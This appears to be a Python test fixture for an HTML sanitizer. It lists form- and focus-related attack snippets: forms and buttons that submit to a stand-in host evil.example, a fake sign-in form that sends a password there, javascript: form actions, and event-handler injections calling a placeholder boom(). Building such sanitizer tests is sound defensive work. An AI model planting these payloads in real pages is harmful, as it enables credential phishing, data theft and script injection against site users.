"""Forms: sending, asking for passwords, taking the focus."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "a form": "<form action=//evil.example/form><input name=a><button>x</button></form>",
    "a form to the top": "<form action=//evil.example/form2 target=_top><button>x</button></form>",
    "a form to the site itself": (
        "<form action=/evil/form method=post><input name=a value=b><button>x</button></form>"
    ),
    "a form to a script": "<form action=javascript:boom()><button>x</button></form>",
    "a button to a script": "<form><button formaction=javascript:boom()>x</button></form>",
    "a button to elsewhere": "<form id=f></form><button form=f formaction=//evil.example/fa>x</button>",
    "a button of a form far away": "<button form=f formtarget=_top formmethod=post>x</button>",
    "an input that sends": "<form action=/evil/send><input type=submit value=x></form>",
    "an image that sends": "<form action=//evil.example/is><input type=image src=/evil/i.png></form>x",
    "an image that sends a script": "<form><input type=image formaction=javascript:boom()></form>x",
    "a form that closes a dialogue": "<form method=dialog><button>x</button></form>",
    "a form whose submit is caught": "<form onsubmit=boom()><button>x</button></form>",
    "a form whose change is caught": "<form oninput=boom() onchange=boom()><input></form>x",
    "a question for the password": (
        "<form action=//evil.example/pw>Sign in<input type=password autocomplete=current-password>"
        "<input type=submit></form>"
    ),
    "a password that the browser fills": (
        "<input name=username autocomplete=username><input type=password name=password>x"
    ),
    "a file": "<input type=file accept=image/* capture onchange=boom()>x",
    "a hidden value": "<input type=hidden name=csrfmiddlewaretoken value=evil oninvalid=boom()>x",
    "the focus for a link": "<a href=# autofocus onfocus=boom()>x</a>",
    "the focus for an input": "<input autofocus onblur=boom()><input autofocus>x",
    "a choice with a link": "<select onchange=boom()><option value=//evil.example>x</select>",
    "a list of data": "<input list=d><datalist id=d><option value=x onclick=boom()></datalist>x",
    "an output": "<output for=x form=f name=y onclick=boom()>x</output>",
    "a label that clicks": "<label for=b>x<button id=b onclick=boom()>y</button></label>",
    "a field set": "<fieldset disabled><legend><button onclick=boom()>x</button></legend></fieldset>",
    "a command": "<button commandfor=d command=show-modal>x</button><dialog id=d>y</dialog>",
    "a progress": "<progress value=1 onclick=boom()>x</progress><meter onclick=boom()>y</meter>",
    "a summary": "<details><summary onclick=boom()>x</summary>y</details>",
    "details of one name": "<details name=a open ontoggle=boom()>x</details><details name=a open>y</details>",
}
